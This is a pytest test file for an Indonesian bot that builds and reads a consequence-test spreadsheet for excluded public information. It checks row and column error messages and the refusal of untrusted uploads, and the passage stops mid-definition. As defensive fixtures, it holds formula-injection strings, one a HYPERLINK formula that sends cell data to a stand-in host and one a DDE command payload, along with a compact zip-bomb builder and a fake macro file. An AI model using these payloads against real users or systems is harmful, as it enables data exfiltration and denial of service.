"""Lembar Analisa Uji Konsekuensi as a spreadsheet: build it for the cycle's items, fill it as
the Tim Uji Konsekuensi would in Excel, read the decisions back; every mistake is named by row
and column; untrusted files are refused before openpyxl opens them."""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, replace
from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.formdik import analysis
from bot.formdik.analysis import (
    DATA_START_ROW,
    HEADER_ROW,
    AnalysisItemIn,
    AnalysisRowIn,
    build_analysis_sheet,
    parse_keputusan,
    read_analysis_sheet,
)
from bot.formdik.template import REF_ANGKA_NAME, REF_HURUF_NAME, huruf_choice
from bot.pasal17 import Basis

ITEMS: tuple[AnalysisItemIn, ...] = (
    AnalysisItemIn(
        item_id=101,
        no=1,
        opd="Dinas Kesehatan",
        informasi="Data rekam medis pasien Puskesmas",
        dasar_hukum="Pasal 17 huruf h angka 2 Undang-Undang Nomor 14 Tahun 2008",
        konsekuensi_dibuka="Mengungkap riwayat kesehatan pribadi pasien",
        konsekuensi_ditutup="Melindungi rahasia pribadi pasien",
        jangka_waktu="Tidak terbatas",
    ),
    AnalysisItemIn(
        item_id=102,
        no=2,
        opd="Dinas Pekerjaan Umum dan Penataan Ruang",
        informasi="Dokumen penawaran peserta tender",
        dasar_hukum="Pasal 17 huruf b UU 14/2008",
        konsekuensi_dibuka="Mengganggu persaingan usaha yang sehat",
        konsekuensi_ditutup="Menjaga proses pengadaan yang adil",
        jangka_waktu="Sampai penetapan pemenang",
    ),
    AnalysisItemIn(
        item_id=103,
        no=3,
        opd="Bagian Umum",
        informasi="Daftar hadir rapat koordinasi",
        dasar_hukum="Pasal 17 huruf i UU 14/2008",
        konsekuensi_dibuka="Tidak ada",
        konsekuensi_ditutup="Tidak ada",
        jangka_waktu="2 tahun",
    ),
    AnalysisItemIn(
        item_id=104,
        no=4,
        opd="Satuan Polisi Pamong Praja",
        informasi="Laporan pengaduan masyarakat beserta identitas pelapor",
        dasar_hukum="Undang-Undang Nomor 14 Tahun 2008",
        konsekuensi_dibuka="Pelapor dapat dikenali",
        konsekuensi_ditutup="",
        jangka_waktu="Tidak terbatas",
    ),
    AnalysisItemIn(
        item_id=105,
        no=5,
        opd="RSUD S.K. Lerik",
        informasi="Hasil pemeriksaan HIV pasien",
        dasar_hukum="Pasal 17 huruf j UU 14/2008 jo. Undang-Undang Nomor 36 Tahun 2009",
        konsekuensi_dibuka="Stigma terhadap pasien",
        konsekuensi_ditutup="Melindungi pasien",
        jangka_waktu="Tidak terbatas",
    ),
    AnalysisItemIn(
        item_id=106,
        no=6,
        opd="Dinas Kearsipan dan Perpustakaan",
        informasi="Arsip tertutup hasil akuisisi",
        dasar_hukum="Pasal 17 UU KIP",
        konsekuensi_dibuka="Membuka arsip yang dinyatakan tertutup",
        konsekuensi_ditutup="Menjaga arsip sesuai ketentuan kearsipan",
        jangka_waktu="25 tahun",
    ),
)
ROW = {item.item_id: DATA_START_ROW + i for i, item in enumerate(ITEMS)}
KEARSIPAN = "Undang-Undang Nomor 43 Tahun 2009 tentang Kearsipan"
ALASAN = "Informasi ini wajib diumumkan secara berkala (Pasal 9 UU 14/2008)"


# ---------------------------------------------------------------------------------------------
# Helpers: fill the sheet the way the Tim does in Excel


def _build(items: Sequence[AnalysisItemIn] = ITEMS) -> bytes:
    return build_analysis_sheet(cycle_title="Uji Konsekuensi DIK 2026", items=items)


def _columns(ws: Worksheet) -> dict[str, int]:
    return {
        str(cell.value): cell.column
        for cell in ws[HEADER_ROW]
        if cell.value is not None and isinstance(cell.column, int)
    }


Edits = dict[int, dict[str, Any]]  # sheet row -> header name -> value


def _fill(edits: Edits, items: Sequence[AnalysisItemIn] = ITEMS) -> bytes:
    wb = load_workbook(BytesIO(_build(items)))
    ws = wb[analysis.SHEET_ANALYSIS]
    columns = _columns(ws)
    for row, values in edits.items():
        for name, value in values.items():
            ws.cell(row=row, column=columns[name]).value = value  # None clears the cell
    buf = BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _decide(keputusan: str, **more: Any) -> dict[str, Any]:
    names = {
        "bagian": "Bagian yang dihitamkan",
        "alasan": "Alasan dinyatakan terbuka",
        "huruf": "Pasal 17 huruf",
        "angka": "Angka",
        "uu_lain": "UU/peraturan lain",
        "dibuka": "Konsekuensi apabila dibuka (Tim)",
        "ditutup": "Konsekuensi apabila ditutup (Tim)",
        "jangka": "Jangka waktu (Tim)",
        "id": "ID",
        "informasi": "Informasi",
    }
    return {"Keputusan": keputusan, **{names[k]: v for k, v in more.items()}}


def _messages(problems: Sequence[Any]) -> list[str]:
    return [str(p) for p in problems]


# ---------------------------------------------------------------------------------------------
# Round trip

FILLED: Edits = {
    ROW[101]: _decide("Dikecualikan"),
    ROW[102]: _decide("Dikecualikan sebagian", bagian="Harga satuan dan metode pelaksanaan"),
    ROW[103]: _decide("Terbuka", alasan=ALASAN),
    ROW[104]: _decide(
        "dikecualikan",
        huruf=huruf_choice("a"),
        angka=2,
        dibuka="Pelapor dapat diintimidasi",
        jangka="Sampai perkara berkekuatan hukum tetap",
    ),
    # 105 is left empty: not decided yet
    ROW[106]: _decide("Dikecualikan", huruf="j", uu_lain=KEARSIPAN),
}


def test_round_trip_reads_every_decision() -> None:
    result = read_analysis_sheet(_fill(FILLED), items=ITEMS)

    assert result.problems == ()
    assert result.ok
    assert result.rows == (
        AnalysisRowIn(
            item_id=101,
            keputusan="dikecualikan",
            bagian_dihitamkan=None,
            bases=(Basis("h", 2),),
            other_law=None,
            konsekuensi_dibuka="Mengungkap riwayat kesehatan pribadi pasien",
            konsekuensi_ditutup="Melindungi rahasia pribadi pasien",
            jangka_waktu="Tidak terbatas",
            source_row=8,
        ),
        AnalysisRowIn(
            item_id=102,
            keputusan="sebagian",
            bagian_dihitamkan="Harga satuan dan metode pelaksanaan",
            bases=(Basis("b"),),
            other_law=None,
            konsekuensi_dibuka="Mengganggu persaingan usaha yang sehat",
            konsekuensi_ditutup="Menjaga proses pengadaan yang adil",
            jangka_waktu="Sampai penetapan pemenang",
            source_row=9,
        ),
        AnalysisRowIn(
            item_id=103,
            keputusan="terbuka",
            bagian_dihitamkan=None,
            bases=(Basis("i"),),
            other_law=None,
            konsekuensi_dibuka="Tidak ada",
            konsekuensi_ditutup="Tidak ada",
            jangka_waktu="2 tahun",
            source_row=10,
            alasan_terbuka=ALASAN,
        ),
        AnalysisRowIn(
            item_id=104,
            keputusan="dikecualikan",
            bagian_dihitamkan=None,
            bases=(Basis("a", 2),),
            other_law=None,
            konsekuensi_dibuka="Pelapor dapat diintimidasi",
            konsekuensi_ditutup="",
            jangka_waktu="Sampai perkara berkekuatan hukum tetap",
            source_row=11,
        ),
        AnalysisRowIn(
            item_id=106,
            keputusan="dikecualikan",
            bagian_dihitamkan=None,
            bases=(Basis("j"),),
            other_law=KEARSIPAN,
            konsekuensi_dibuka="Membuka arsip yang dinyatakan tertutup",
            konsekuensi_ditutup="Menjaga arsip sesuai ketentuan kearsipan",
            jangka_waktu="25 tahun",
            source_row=13,
        ),
    )
    assert _messages(result.warnings) == ["1 butir belum diputuskan: No 5"]


def test_rows_are_matched_by_id_not_by_position() -> None:
    """The Tim sorted the sheet (by OPD): whole rows moved, IDs with them."""
    wb = load_workbook(BytesIO(_fill(FILLED)))
    ws = wb[analysis.SHEET_ANALYSIS]
    first = [c.value for c in ws[ROW[101]]]
    second = [c.value for c in ws[ROW[102]]]
    for col, (a, b) in enumerate(zip(first, second, strict=True), start=1):
        ws.cell(ROW[101], col, b)
        ws.cell(ROW[102], col, a)
    buf = BytesIO()
    wb.save(buf)

    result = read_analysis_sheet(buf.getvalue(), items=ITEMS)

    assert result.problems == ()
    by_id = {row.item_id: row for row in result.rows}
    assert (by_id[101].keputusan, by_id[101].source_row) == ("dikecualikan", ROW[102])
    assert (by_id[102].keputusan, by_id[102].source_row) == ("sebagian", ROW[101])


def test_prefilled_decisions_round_trip() -> None:
    """Items already decided in chat come pre-filled; an untouched upload reads them back."""
    items = (
        replace(
            ITEMS[0],
            keputusan="sebagian",
            bagian_dihitamkan="Nama dan NIK pasien",
            bases_tim=(Basis("g"), Basis("h", 1)),
            konsekuensi_ditutup_tim="Hak pasien terlindungi",
            jangka_waktu_tim="30 tahun",
        ),
        replace(ITEMS[1], keputusan="terbuka", alasan_terbuka=ALASAN),
        replace(
            ITEMS[5], keputusan="dikecualikan", bases_tim=(Basis("j"),), other_law_tim=KEARSIPAN
        ),
        replace(
            ITEMS[3],
            keputusan="dikecualikan",
            bases_tim=(Basis("a", 2),),
            jangka_waktu_tim="5 tahun",
        ),
    )
    data = _build(items)
    ws = load_workbook(BytesIO(data))[analysis.SHEET_ANALYSIS]
    columns = _columns(ws)
    assert ws.cell(8, columns["Keputusan"]).value == "Dikecualikan sebagian"
    assert ws.cell(8, columns["Pasal 17 huruf"]).value == "huruf g dan huruf h angka 1"
    assert ws.cell(11, columns["Pasal 17 huruf"]).value == huruf_choice("a")
    assert ws.cell(11, columns["Angka"]).value == 2

    result = read_analysis_sheet(data, items=items)

    assert result.problems == ()
    assert [(r.item_id, r.keputusan, r.bases, r.other_law) for r in result.rows] == [
        (101, "sebagian", (Basis("g"), Basis("h", 1)), None),
        (102, "terbuka", (Basis("b"),), None),
        (106, "dikecualikan", (Basis("j"),), KEARSIPAN),
        (104, "dikecualikan", (Basis("a", 2),), None),
    ]
    first = result.rows[0]
    assert first.bagian_dihitamkan == "Nama dan NIK pasien"
    assert first.konsekuensi_dibuka == ITEMS[0].konsekuensi_dibuka  # the proposal's
    assert first.konsekuensi_ditutup == "Hak pasien terlindungi"  # the Tim's
    assert first.jangka_waktu == "30 tahun"
    assert result.warnings == ()


def test_huruf_j_chosen_by_the_tim_keeps_the_law_the_opd_named() -> None:
    edits = {ROW[105]: _decide("Dikecualikan", huruf=huruf_choice("j"), jangka="30 tahun")}
    result = read_analysis_sheet(_fill(edits), items=ITEMS)
    assert result.problems == ()
    assert result.rows[0].bases == (Basis("j"),)
    assert result.rows[0].other_law == "Undang-Undang Nomor 36 Tahun 2009"


def test_rows_missing_from_the_sheet_are_undecided() -> None:
    more = (*ITEMS[:1], replace(ITEMS[1], item_id=777, no=7))
    result = read_analysis_sheet(
        _fill({ROW[101]: _decide("Terbuka", alasan=ALASAN)}, ITEMS[:1]), items=more
    )
    assert result.problems == ()
    assert _messages(result.warnings) == ["1 butir belum diputuskan: No 7"]


def test_proposal_bases_stored_with_the_item_are_used() -> None:
    """The OPD chose the letter in the Form DIK's helper column: the text has none."""
    items = (replace(ITEMS[3], bases=(Basis("a", 2),), jangka_waktu="Selama proses penyidikan"),)
    result = read_analysis_sheet(_fill({8: _decide("Dikecualikan")}, items), items=items)
    assert result.problems == ()
    assert result.rows[0].bases == (Basis("a", 2),)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Dikecualikan", "dikecualikan"),
        ("  DIKECUALIKAN ", "dikecualikan"),
        ("Dikecualikan seluruhnya", "dikecualikan"),
        ("dikecualikan sebagian", "sebagian"),
        ("Sebagian", "sebagian"),
        ("Dikecualikan Sebagian.", "sebagian"),
        ("terbuka", "terbuka"),
        ("Terbuka (tidak dikecualikan)", "terbuka"),
        ("tidak dikecualikan", "terbuka"),
        ("Tidak Dikecualikan", "terbuka"),
        ("Ditunda", None),
        ("", None),
    ],
)
def test_keputusan_is_read_leniently(text: str, expected: str | None) -> None:
    assert parse_keputusan(text) == expected


def test_lenient_keputusan_in_the_sheet() -> None:
    edits = {
        ROW[101]: _decide("tidak dikecualikan", alasan=ALASAN),
        ROW[102]: _decide("Sebagian", bagian="Harga"),
        ROW[103]: _decide("TERBUKA", alasan=ALASAN),
    }
    result = read_analysis_sheet(_fill(edits), items=ITEMS)
    assert result.problems == ()
    assert [r.keputusan for r in result.rows] == ["terbuka", "sebagian", "terbuka"]
    assert _messages(result.warnings) == ["3 butir belum diputuskan: No 4, 5, 6"]


def test_filled_columns_without_keputusan_are_warned_about() -> None:
    edits = {
        ROW[101]: _decide("Terbuka", alasan=ALASAN),
        ROW[102]: {"Bagian yang dihitamkan": "Harga"},
    }
    result = read_analysis_sheet(_fill(edits), items=ITEMS)
    assert result.problems == ()
    assert "Baris 9, kolom Keputusan: kosong; isian Tim pada baris ini tidak disimpan" in (
        _messages(result.warnings)
    )


def test_ignored_inputs_are_warned_about() -> None:
    edits = {
        ROW[101]: _decide("Terbuka", alasan=ALASAN, bagian="NIK", uu_lain=KEARSIPAN),
        ROW[102]: _decide("Dikecualikan", alasan="Sudah diumumkan"),
    }
    result = read_analysis_sheet(_fill(edits), items=ITEMS)
    assert result.problems == ()
    assert result.rows[0].bagian_dihitamkan is None
    assert result.rows[0].other_law is None
    messages = _messages(result.warnings)
    assert (
        "Baris 8, kolom Bagian yang dihitamkan: diisi, tetapi keputusannya bukan Dikecualikan "
        "sebagian; isian ini diabaikan"
    ) in messages
    assert (
        "Baris 9, kolom Alasan dinyatakan terbuka: diisi, tetapi keputusannya bukan Terbuka; "
        "isian ini diabaikan"
    ) in messages
    assert [r.alasan_terbuka for r in result.rows] == [ALASAN, None]


def test_terbuka_without_its_reason_is_a_problem_of_its_row() -> None:
    """Issue 12 item 3: every item declared open carries the Tim's reason; a row without one
    (or with one too long) is refused as that row's problem, the others are still read."""
    edits = {
        ROW[101]: _decide("Terbuka"),
        ROW[102]: _decide("Terbuka", alasan="x" * (analysis.MAX_ALASAN + 1)),
        ROW[103]: _decide("Terbuka", alasan="   "),
        ROW[104]: _decide("Terbuka", alasan=ALASAN),
    }
    result = read_analysis_sheet(_fill(edits), items=ITEMS)
    assert _messages(result.problems) == [
        "Baris 8, kolom Alasan dinyatakan terbuka: kosong; untuk Terbuka tuliskan alasan Tim "
        "menyatakan informasi ini terbuka",
        "Baris 9, kolom Alasan dinyatakan terbuka: teks terlalu panjang (1.001 karakter; "
        "maksimal 1.000)",
        "Baris 10, kolom Alasan dinyatakan terbuka: kosong; untuk Terbuka tuliskan alasan Tim "
        "menyatakan informasi ini terbuka",
    ]
    assert [(r.item_id, r.alasan_terbuka) for r in result.rows] == [(104, ALASAN)]


def test_the_reason_recorded_in_chat_comes_prefilled() -> None:
    items = (replace(ITEMS[0], keputusan="terbuka", alasan_terbuka=ALASAN),)
    data = _build(items)
    ws = load_workbook(BytesIO(data))[analysis.SHEET_ANALYSIS]
    columns = _columns(ws)
    assert ws.cell(analysis.HEADER_ROW, columns["Alasan dinyatakan terbuka"]).value
    assert ws.cell(8, columns["Alasan dinyatakan terbuka"]).value == ALASAN
    guide = load_workbook(BytesIO(data))[analysis.SHEET_GUIDE]
    lines = [str(c.value) for row in guide.iter_rows() for c in row if c.value]
    assert any(line.startswith("Alasan dinyatakan terbuka: wajib untuk Terbuka") for line in lines)
    result = read_analysis_sheet(data, items=items)
    assert result.problems == ()
    assert (result.rows[0].keputusan, result.rows[0].alasan_terbuka) == ("terbuka", ALASAN)


def test_nothing_decided_is_a_problem() -> None:
    result = read_analysis_sheet(_build(), items=ITEMS)
    assert _messages(result.problems) == [
        "Belum ada butir yang diputuskan: kolom Keputusan kosong pada semua baris."
    ]
    assert result.rows == ()


# ---------------------------------------------------------------------------------------------
# The built workbook


def test_workbook_layout_drop_downs_and_hidden_reference_sheet() -> None:
    wb = load_workbook(BytesIO(_build()))
    assert wb.sheetnames == ["Lembar Analisa", "Petunjuk", "Referensi"]
    ws = wb["Lembar Analisa"]
    assert wb["Referensi"].sheet_state == "hidden"
    assert ws.sheet_state == "visible"
    assert not ws.protection.sheet  # nothing is protected on the sheet the Tim fills
    assert "Uji Konsekuensi DIK 2026" in str(ws["A3"].value)
    assert ws["A1"].value == "LEMBAR ANALISA UJI KONSEKUENSI"

    columns = _columns(ws)
    assert list(columns) == [name for _, name, _ in analysis.COLUMNS]
    assert list(columns)[:1] == ["ID"]
    assert [ws.cell(r, columns["ID"]).value for r in range(8, 14)] == [
        101,
        102,
        103,
        104,
        105,
        106,
    ]
    assert ws.cell(8, columns["Informasi"]).value == ITEMS[0].informasi
    assert ws.cell(13, columns["Jangka Waktu (usulan OPD)"]).value == "25 tahun"
    assert ws.cell(14, columns["ID"]).value is None
    assert ws.freeze_panes == "E8"

    grey = ws.cell(8, columns["Dasar Hukum (usulan OPD)"]).fill.fgColor.rgb
    assert grey.endswith("E7E6E6")
    assert ws.cell(8, columns["Keputusan"]).fill.fgColor.rgb != grey
    assert ws.column_dimensions["D"].width == 36
    assert ws.cell(8, columns["Informasi"]).alignment.wrap_text

    validations = {dv.formula1: str(dv.sqref) for dv in ws.data_validations.dataValidation}
    letter = {name: ws.cell(HEADER_ROW, col).column_letter for name, col in columns.items()}
    assert validations == {
        "UK_KEPUTUSAN": f"{letter['Keputusan']}8:{letter['Keputusan']}13",
        REF_HURUF_NAME: f"{letter['Pasal 17 huruf']}8:{letter['Pasal 17 huruf']}13",
        REF_ANGKA_NAME: f"{letter['Angka']}8:{letter['Angka']}13",
    }
    assert wb.defined_names["UK_KEPUTUSAN"].attr_text == "Referensi!$K$2:$K$4"
    ref = wb["Referensi"]
    assert [ref.cell(r, 11).value for r in range(2, 5)] == [
        "Dikecualikan",
        "Dikecualikan sebagian",
        "Terbuka",
    ]
    assert ref["B9"].value == huruf_choice("h")

    guide = " ".join(str(c.value) for row in wb["Petunjuk"].iter_rows() for c in row if c.value)
    assert "Jangan mengubah, menghapus, atau menyalin ID" in guide
    assert "Pasal 20" in guide


def test_formula_like_text_written_by_build_stays_text() -> None:
    attack = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
    items = (
        replace(
            ITEMS[0],
            informasi=attack,
            opd="@SUM(1+1)",
            dasar_hukum="+Pasal 17 huruf h angka 2 UU 14/2008",
            konsekuensi_dibuka="-cmd|' /C calc'!A0",
        ),
    )
    data = _build(items)
    with zipfile.ZipFile(BytesIO(data)) as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml

    ws = load_workbook(BytesIO(data))[analysis.SHEET_ANALYSIS]
    columns = _columns(ws)
    for name, value in (
        ("Informasi", attack),
        ("OPD (Penguasa Informasi)", "@SUM(1+1)"),
        ("Konsekuensi apabila dibuka (usulan OPD)", "-cmd|' /C calc'!A0"),
    ):
        cell = ws.cell(8, columns[name])
        assert cell.value == value
        assert cell.data_type == "s"
        assert cell.quotePrefix

    # The grey columns are not checked for formulas: the upload is fine.
    result = read_analysis_sheet(_fill({8: _decide("Dikecualikan")}, items), items=items)
    assert result.problems == ()
    assert result.rows[0].bases == (Basis("h", 2),)


# ---------------------------------------------------------------------------------------------
# Problems, each named by row and column


@dataclass(frozen=True)
class Bad:
    name: str
    edits: Edits
    expected: str  # the start of the message, "Baris N, kolom X: ..."
    items: tuple[AnalysisItemIn, ...] = field(default=ITEMS)


BAD_ROWS = [
    Bad(
        "unknown id",
        {8: _decide("Dikecualikan", id=999)},
        'Baris 8, kolom ID: "999" bukan ID butir pada siklus ini; jangan mengubah kolom ID',
    ),
    Bad(
        "id not a number",
        {8: _decide("Terbuka", alasan=ALASAN, id="satu")},
        'Baris 8, kolom ID: "satu" bukan',
    ),
    Bad(
        "id deleted", {8: _decide("Terbuka", alasan=ALASAN, id=None)}, "Baris 8, kolom ID: kosong"
    ),
    Bad(
        "duplicated id",
        {
            8: _decide("Terbuka", alasan=ALASAN),
            9: _decide("Terbuka", alasan=ALASAN, id=101, informasi=ITEMS[0].informasi),
        },
        "Baris 9, kolom ID: ID 101 sudah dipakai pada baris 8; satu butir hanya boleh satu baris",
    ),
    Bad(
        "id moved to another item",
        {
            8: _decide("Terbuka", alasan=ALASAN, id=102),
            9: _decide("Terbuka", alasan=ALASAN, id=101),
        },
        'Baris 8, kolom ID: ID 102 adalah butir No 2 ("Dokumen penawaran peserta tender"), '
        'tetapi kolom Informasi baris ini berisi "Data rekam medis pasien Puskesmas"',
    ),
    Bad(
        "unknown keputusan",
        {8: _decide("Ditunda")},
        'Baris 8, kolom Keputusan: "Ditunda" tidak dikenal; pilih Dikecualikan, '
        "Dikecualikan sebagian, atau Terbuka",
    ),
    Bad(
        "sebagian without bagian",
        {9: _decide("Dikecualikan sebagian")},
        "Baris 9, kolom Bagian yang dihitamkan: kosong; untuk Dikecualikan sebagian sebutkan "
        "bagian informasi yang dihitamkan",
    ),
    Bad(
        "no pasal 17 letter anywhere",
        {11: _decide("Dikecualikan", jangka="5 tahun")},
        "Baris 11, kolom Pasal 17 huruf: kosong, dan dasar hukum usulan OPD tidak menyebut huruf "
        "Pasal 17 yang sah; pilih hurufnya dari daftar",
    ),
    Bad(
        "huruf not in pasal 17",
        {8: _decide("Dikecualikan", huruf="k")},
        'Baris 8, kolom Pasal 17 huruf: "k" bukan huruf Pasal 17; pilih a sampai j dari daftar',
    ),
    Bad(
        "angka out of range",
        {8: _decide("Dikecualikan", huruf=huruf_choice("h"), angka=9)},
        "Baris 8, kolom Angka: huruf h hanya memiliki angka 1 sampai 5",
    ),
    Bad(
        "angka for a letter without points",
        {9: _decide("Dikecualikan", angka=1)},
        "Baris 9, kolom Angka: huruf b tidak memiliki angka",
    ),
    Bad(
        "angka with two letters",
        {8: _decide("Dikecualikan", huruf="g dan h", angka=1)},
        "Baris 8, kolom Angka: kolom Pasal 17 huruf menyebut lebih dari satu huruf",
    ),
    Bad(
        "no period at all",
        {10: _decide("Dikecualikan")},
        "Baris 10, kolom Jangka waktu (Tim): kosong, dan usulan OPD juga tidak menyebut "
        "jangka waktu",
        items=(*ITEMS[:2], replace(ITEMS[2], jangka_waktu="  "), *ITEMS[3:]),
    ),
    Bad(
        "ground b made permanent by the Tim",
        {9: _decide("Dikecualikan", jangka="Tidak terbatas")},
        "Baris 9, kolom Jangka waktu (Tim): pengecualian huruf b tidak boleh tidak "
        "terbatas/permanen: menurut Pasal 20 UU 14/2008 pengecualian huruf a sampai f tidak "
        'bersifat permanen; isi jangka waktunya, misalnya "5 tahun"',
    ),
    Bad(
        "ground a inherits the proposal's permanent period",
        {11: _decide("Dikecualikan", huruf="a", angka=2)},
        "Baris 11, kolom Jangka waktu (Tim): pengecualian huruf a tidak boleh tidak "
        "terbatas/permanen: menurut Pasal 20 UU 14/2008 pengecualian huruf a sampai f tidak "
        'bersifat permanen; isi jangka waktunya, misalnya "5 tahun" (jangka waktu usulan OPD: '
        '"Tidak terbatas")',
    ),
    Bad(
        "permanen for ground c",
        {8: _decide("Dikecualikan", huruf=huruf_choice("c"), angka=6, jangka="Permanen")},
        "Baris 8, kolom Jangka waktu (Tim): pengecualian huruf c tidak boleh",
    ),
    Bad(
        "huruf j without the other law",
        {8: _decide("Dikecualikan", huruf=huruf_choice("j"))},
        "Baris 8, kolom UU/peraturan lain: kosong; huruf j harus menyebut Undang-Undang lain",
    ),
    Bad(
        "cell too long",
        {8: _decide("Dikecualikan", dibuka="x" * 4001)},
        "Baris 8, kolom Konsekuensi apabila dibuka (Tim): teks terlalu panjang (4.001 karakter; "
        "maksimal 4.000)",
    ),
    Bad(
        "formula in a Tim column",
        {8: _decide("Dikecualikan", ditutup="=A1&B1")},
        "Baris 8, kolom Konsekuensi apabila ditutup (Tim): berisi rumus; ganti dengan teks biasa",
    ),
    Bad(
        "formula in keputusan",
        {8: {"Keputusan": '=IF(TRUE,"Terbuka")'}},
        "Baris 8, kolom Keputusan: berisi rumus; ganti dengan teks biasa",
    ),
    Bad(
        "no consequences at all",
        {10: _decide("Dikecualikan")},
        "Baris 10, kolom Konsekuensi apabila dibuka (Tim) / Konsekuensi apabila ditutup (Tim): "
        "kosong",
        items=(
            *ITEMS[:2],
            replace(ITEMS[2], konsekuensi_dibuka="", konsekuensi_ditutup=""),
            *ITEMS[3:],
        ),
    ),
]


@pytest.mark.parametrize("bad", BAD_ROWS, ids=[b.name for b in BAD_ROWS])
def test_bad_row_is_named_by_row_and_column(bad: Bad) -> None:
    edits = {ROW[103]: _decide("Terbuka", alasan=ALASAN), **bad.edits}  # something valid besides
    result = read_analysis_sheet(_fill(edits, bad.items), items=bad.items)
    messages = _messages(result.problems)
    assert any(m.startswith(bad.expected) for m in messages), messages
    assert not result.ok
    bad_rows = {p.row for p in result.problems}
    assert all(r.source_row not in bad_rows for r in result.rows)


def test_every_problem_is_collected() -> None:
    edits = {
        8: _decide("Dikecualikan", huruf="j"),
        9: _decide("Dikecualikan sebagian", jangka="Tidak terbatas"),
        10: _decide("Terbuka", alasan=ALASAN),
        11: _decide("Dikecualikan", ditutup="=1+1"),
        12: _decide("Entah", id=555),
    }
    result = read_analysis_sheet(_fill(edits), items=ITEMS)
    assert _messages(result.problems) == [
        "Baris 8, kolom UU/peraturan lain: kosong; huruf j harus menyebut Undang-Undang lain "
        'yang menjadi dasar pengecualian (misalnya "Undang-Undang Nomor 36 Tahun 2009 tentang '
        'Kesehatan")',
        "Baris 9, kolom Bagian yang dihitamkan: kosong; untuk Dikecualikan sebagian sebutkan "
        "bagian informasi yang dihitamkan",
        "Baris 9, kolom Jangka waktu (Tim): pengecualian huruf b tidak boleh tidak "
        "terbatas/permanen: menurut Pasal 20 UU 14/2008 pengecualian huruf a sampai f tidak "
        'bersifat permanen; isi jangka waktunya, misalnya "5 tahun"',
        "Baris 11, kolom Konsekuensi apabila ditutup (Tim): berisi rumus; ganti dengan teks biasa",
        'Baris 12, kolom ID: "555" bukan ID butir pada siklus ini; jangan mengubah kolom ID',
        'Baris 12, kolom Keputusan: "Entah" tidak dikenal; pilih Dikecualikan, Dikecualikan '
        "sebagian, atau Terbuka",
    ]
    assert [r.item_id for r in result.rows] == [103]  # the caller stores nothing anyway
    assert _messages(result.warnings)[0] == "2 butir belum diputuskan: No 5, 6"


def test_form_dik_uploaded_by_mistake() -> None:
    from bot.formdik import build_form_dik

    data = build_form_dik(office_name="Dinas", cycle_title="c", deadline_text="d")
    result = read_analysis_sheet(data, items=ITEMS)
    assert _messages(result.problems) == [
        "Baris judul kolom (ID dan Keputusan) tidak ditemukan pada 15 baris pertama. Mohon "
        "gunakan Lembar Analisa Uji Konsekuensi yang dikirim bot."
    ]


# ---------------------------------------------------------------------------------------------
# Files that cannot be trusted


CT = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"/>'
)


def _zip(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
    return buf.getvalue()


def _rewrite(data: bytes, edit: Callable[[str, bytes], bytes]) -> bytes:
    src = zipfile.ZipFile(BytesIO(data))
    return _zip({name: edit(name, src.read(name)) for name in src.namelist()})


def _zip_bomb() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": CT,
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": b"\x00" * 60_000_000,
        },
        method=zipfile.ZIP_BZIP2,
    )


def _encrypted() -> bytes:
    out = bytearray(_fill(FILLED))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = out.find(signature)
        while start != -1:
            out[start + offset] |= 0x01
            start = out.find(signature, start + 4)
    return bytes(out)


def _xlsm() -> bytes:
    src = zipfile.ZipFile(BytesIO(_fill(FILLED)))
    parts = {name: src.read(name) for name in src.namelist()}
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Attribute VB_Name"
    return _zip(parts)


REFUSED: list[tuple[str, Callable[[], bytes], str]] = [
    (
        "pdf renamed",
        lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\n",
        "Berkas ini PDF, bukan berkas Excel",
    ),
    ("csv renamed", lambda: b"ID;Keputusan\n101;Terbuka\n", "bukan berkas Excel .xlsx"),
    ("old xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "Excel lama (.xls)"),
    (
        "docx renamed",
        lambda: _zip({"[Content_Types].xml": CT, "word/document.xml": b"<w:document/>"}),
        "dokumen Word (.docx) yang diganti namanya",
    ),
    ("zip bomb", _zip_bomb, "Isi berkas terlalu besar setelah dibuka (60,0 MB"),
    ("encrypted", _encrypted, "Berkas dilindungi kata sandi"),
    ("macros", _xlsm, "Berkas berisi makro (.xlsm)"),
    ("empty", lambda: b"", "Berkas kosong (0 byte)"),
]


@pytest.mark.parametrize(
    ("build", "fragment"), [(b, f) for _, b, f in REFUSED], ids=[n for n, _, _ in REFUSED]
)
def test_untrusted_file_is_refused_before_openpyxl_opens_it(
    monkeypatch: pytest.MonkeyPatch, build: Callable[[], bytes], fragment: str
) -> None:
    data = build()

    def must_not_open(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("openpyxl opened a refused file")

    monkeypatch.setattr(analysis, "load_workbook", must_not_open)
    result = read_analysis_sheet(data, items=ITEMS)
    assert result.rows == ()
    assert len(result.problems) == 1
    assert fragment in str(result.problems[0]), str(result.problems[0])


def test_zip_bomb_is_small() -> None:
    assert len(_zip_bomb()) < 10_000


def test_oversized_file_is_refused() -> None:
    result = read_analysis_sheet(_fill(FILLED), items=ITEMS, max_bytes=1000)
    assert "Berkas terlalu besar" in str(result.problems[0])


def test_broken_workbook_is_explained() -> None:
    data = _rewrite(
        _fill(FILLED),
        lambda name, body: b"<worksheet><sheetData><row" if name.endswith("sheet1.xml") else body,
    )
    result = read_analysis_sheet(data, items=ITEMS)
    assert result.rows == ()
    assert "Berkas Excel tidak dapat dibaca" in str(result.problems[0])


X14_DROP_DOWN = (
    b'<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
